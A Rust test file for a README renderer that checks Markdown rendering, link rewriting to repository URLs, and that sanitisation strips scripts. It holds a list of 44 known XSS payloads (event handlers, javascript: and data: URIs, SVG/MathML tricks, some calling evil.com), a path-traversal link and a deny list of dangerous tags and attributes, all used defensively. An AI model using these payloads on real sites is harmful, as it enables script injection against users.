//! What a README may look like, and what it can never do.

use super::*;

fn shop() -> ReadmePlace {
    ReadmePlace {
        repository: "github.com/acme/shop".to_owned(),
        commit: Some("0123abc".to_owned()),
        folder: "services/stock".to_owned(),
    }
}

fn page(markdown: &str) -> String {
    rendered(markdown, &shop())
}

#[test]
fn github_s_markdown_is_rendered() {
    let html = page(
        "# Stock\n\n| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n- [x] done\n- [ ] open\n\n```rust\nfn f() {}\n```\n\n<details><summary>More</summary>text</details>\n",
    );
    for part in [
        "<h1>Stock</h1>",
        "<table>",
        "<th>a</th>",
        "<del>2</del>",
        "☑ done",
        "☐ open",
        "<code class=\"language-rust\">fn f() {}",
        "<details><summary>More</summary>text</details>",
    ] {
        assert!(html.contains(part), "{part}: {html}");
    }
}

#[test]
fn a_relative_link_leads_to_the_repository() {
    let blob = "https://github.com/acme/shop/blob/0123abc";
    for (link, expected) in [
        ("docs/a.md", format!("{blob}/services/stock/docs/a.md")),
        ("./a.md#top", format!("{blob}/services/stock/a.md#top")),
        ("../pay/README.md", format!("{blob}/services/pay/README.md")),
        ("/LICENSE", format!("{blob}/LICENSE")),
        ("https://acme.com/x", "https://acme.com/x".to_owned()),
        ("//acme.com/x", "https://acme.com/x".to_owned()),
        ("mailto:a@acme.com", "mailto:a@acme.com".to_owned()),
    ] {
        let html = page(&format!("[x]({link})"));
        let expected = format!("<a href=\"{expected}\" rel=\"noopener nofollow\">x</a>");
        assert!(html.contains(&expected), "{link}: {html}");
    }
    let image = page("![logo](../logo.png)");
    let raw = "https://github.com/acme/shop/raw/0123abc/services/logo.png";
    assert!(image.contains(&format!("src=\"{raw}\"")), "{image}");
    assert!(page("<img src=\"logo.png\">").contains("/raw/0123abc/services/stock/logo.png"));

    for (repository, expected) in [
        (
            "gitlab.acme.com/a/b",
            Some("https://gitlab.acme.com/a/b/-/blob/HEAD/x.md"),
        ),
        (
            "bitbucket.org/a/b",
            Some("https://bitbucket.org/a/b/src/HEAD/x.md"),
        ),
        ("git.acme.com/a/b", None),
        ("shop", None),
        ("github.com/a\"b/c", None),
    ] {
        let place = ReadmePlace {
            repository: repository.to_owned(),
            ..ReadmePlace::default()
        };
        let html = rendered("[x](x.md)", &place);
        match expected {
            Some(url) => assert!(html.contains(url), "{repository}: {html}"),
            None => assert!(!html.contains("href"), "{repository}: {html}"),
        }
    }
}

#[test]
fn a_link_that_leads_nowhere_is_text() {
    for link in [
        "#usage",
        "../../../etc/passwd",
        "?q",
        "\\\\evil.com",
        "/\\evil.com",
    ] {
        let html = page(&format!("<a href=\"{link}\">x</a>"));
        assert!(
            !html.contains("href") && html.contains('x'),
            "{link}: {html}"
        );
    }
}

/// Known ways to smuggle a script through Markdown and HTML.
const ATTACKS: [&str; 44] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" ",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<img src=x style=\"background:url(javascript:alert(1))\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.com/x.css\">",
    "<base href=\"javascript:alert(1)//\">",
    "<style>@import 'https://evil.com/x.css';</style>",
    "<div style=\"position:fixed;top:0\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
];

#[test]
fn nothing_in_a_readme_runs() {
    for attack in ATTACKS {
        for markdown in [
            attack.to_owned(),
            format!("text {attack} text"),
            format!("> - {attack}\n"),
            format!("| a |\n|---|\n| {attack} |\n"),
        ] {
            let html = page(&markdown);
            // What is left as text is escaped; tags and attributes are told by what stands in tags.
            for tag in tags(&html) {
                let tag = tag.to_lowercase();
                let name: String = tag
                    .trim_start_matches('/')
                    .chars()
                    .take_while(char::is_ascii_alphanumeric)
                    .collect();
                for bad in [
                    "script", "style", "svg", "math", "iframe", "object", "embed", "form", "input",
                    "button", "body", "meta", "link", "base", "noscript",
                ] {
                    assert_ne!(name, bad, "{markdown}: {html}");
                }
                for bad in [
                    " on",
                    "style=",
                    "javascript:",
                    "vbscript:",
                    "data:",
                    "srcdoc",
                    "formaction",
                    "xlink",
                    " id=",
                    " name=",
                    "target=",
                ] {
                    assert!(!tag.contains(bad), "{bad} in {markdown}: {html}");
                }
            }
        }
    }
}

/// The tags of a page, without their angles.
fn tags(html: &str) -> Vec<&str> {
    let mut rest = html;
    let mut tags = Vec::new();
    while let Some((_, after)) = rest.split_once('<') {
        // Quoted values hold no `>`: the sanitiser escapes it.
        let (tag, after) = after.split_once('>').unwrap_or((after, ""));
        tags.push(tag);
        rest = after;
    }
    tags
}

#[test]
fn every_link_says_what_search_engines_and_pages_must_not_do() {
    let html = page(
        "<a href=\"https://a.com\" rel=\"opener\" target=\"_blank\">x</a> https://b.com <https://c.com>",
    );
    assert_eq!(html.matches("<a ").count(), 2, "{html}");
    assert_eq!(
        html.matches("rel=\"noopener nofollow\"").count(),
        2,
        "{html}"
    );
}

#[test]
fn a_deep_or_broken_readme_is_rendered_as_well() {
    for text in [
        ">".repeat(100_000),
        "<div><p>".repeat(50_000),
        "<b>".repeat(100_000),
        "- ".repeat(50_000),
        "[".repeat(50_000),
        "*a ".repeat(50_000),
        "![](".repeat(30_000),
        "\0\u{feff}\u{202e}".repeat(1_000),
    ] {
        let html = page(&format!("begin\n\n{text}\n\nend"));
        assert!(html.contains("begin") && html.contains("end"));
    }
}
